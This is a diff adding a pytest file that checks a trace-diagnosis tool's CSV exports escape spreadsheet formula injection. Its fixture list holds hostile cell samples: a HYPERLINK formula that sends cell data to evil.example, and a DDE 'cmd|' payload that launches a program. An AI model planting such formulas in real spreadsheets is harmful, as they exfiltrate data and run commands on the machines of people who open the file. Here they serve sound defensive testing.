@@ -1,0 +1,83 @@
+"""Outputs that are safe to share (issue 25): spreadsheets, terminals, the report page, JSON answers, fences.
+
+Each test plants what a hostile trace can carry and checks the place it ends up: a CSV cell that a
+spreadsheet would run as a formula, a control sequence a terminal would obey, a secret or a local
+file in the shareable report, a quoted verdict taken for the answer, a look-alike fence.
+"""
+
+from __future__ import annotations
+
+import csv
+import json
+from pathlib import Path
+
+import pandas as pd
+import pytest
+from click.testing import CliRunner
+
+from mast._outputs import FORMULA_LEADS, spreadsheet_cell, terminal_safe
+from mast.cli import main
+from mast.diagnosis import Diagnosis, Evidence, FirstFailure, JudgeInfo, ModeVerdict
+from mast.taxonomy import load_taxonomy
+
+REPO = Path(__file__).resolve().parent.parent
+EXAMPLES = REPO / "data" / "examples"
+HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+           "\t=1+1", "\r=1+1"]
+
+
+def _hostile_diagnosis(trace_id: str = HOSTILE[0]) -> Diagnosis:
+    tax = load_taxonomy()
+    verdicts = [ModeVerdict(code=m.code, name=m.name, category=m.category, present=i == 0, confidence=0.9,
+                            explanation=HOSTILE[i % len(HOSTILE)],
+                            evidence=[Evidence(step=0, quote=HOSTILE[(i + 1) % len(HOSTILE)], verified=False)])
+                for i, m in enumerate(tax.modes)]
+    return Diagnosis(trace_id=trace_id, judge=JudgeInfo(kind="detectors", taxonomy_version=tax.version),
+                     failure_modes=verdicts, summary=HOSTILE[3],
+                     first_failure=FirstFailure(step=0, agent=HOSTILE[1], code=tax.modes[0].code,
+                                                explanation=HOSTILE[2]))
+
+
+def _formula_cells(path: Path) -> list[str]:
+    with path.open(newline="", encoding="utf-8") as handle:
+        return [cell for row in csv.reader(handle) for cell in row if cell.startswith(FORMULA_LEADS)]
+
+
+def test_spreadsheet_cell_escapes_every_formula_lead_and_nothing_else():
+    for lead in FORMULA_LEADS:
+        assert spreadsheet_cell(lead + "1") == "'" + lead + "1"
+    assert spreadsheet_cell("plain text") == "plain text"
+    assert spreadsheet_cell(-0.5) == -0.5  # numbers stay numbers
+
+
+@pytest.mark.parametrize("form", ["wide", "long"])
+def test_export_escapes_formula_cells(tmp_path, form):
+    results = tmp_path / "results.jsonl"
+    results.write_text("".join(_hostile_diagnosis(t).model_dump_json() + "\n" for t in HOSTILE), encoding="utf-8")
+    out = tmp_path / f"{form}.csv"
+    args = ["export", str(results), "-o", str(out)] + (["--long"] if form == "long" else [])
+    result = CliRunner().invoke(main, args)
+    assert result.exit_code == 0, result.output
+    assert _formula_cells(out) == []
+    frame = pd.read_csv(out, dtype=str, keep_default_na=False)
+    assert set(frame["trace_id"]) == {"'" + t for t in HOSTILE}  # escaped, not dropped
+    if form == "wide":
+        assert (frame["summary"] == "'" + HOSTILE[3]).all()
+
+
+def test_validation_disagreements_csv_escapes_formula_cells(tmp_path):
+    from mast.evaluation.core import evaluate
+    from mast.validation.models import SetResult, ValidationReport
+    from mast.validation.write import write_outputs
+
+    diagnoses = [_hostile_diagnosis(t) for t in HOSTILE]
+    code = load_taxonomy().modes[0].code
+    gold = pd.DataFrame({"trace_id": HOSTILE, "code": code, "present": False})
+    report = evaluate(diagnoses, gold, n_boot=10)
+    assert report.disagreements, "the planted verdicts differ from gold"
+    validation = ValidationReport(judge={}, data_dir="", output_dir=str(tmp_path), sets=[SetResult(
+        name="hostile", description="", licence="", n_traces=len(HOSTILE), results="", evaluation=report)])
+    write_outputs(validation, tmp_path)
+    assert _formula_cells(tmp_path / "disagreements.csv") == []
+    frame = pd.read_csv(tmp_path / "disagreements.csv", dtype=str, keep_default_na=False)
+    assert "'" + HOSTILE[0] in set(frame["trace_id"])
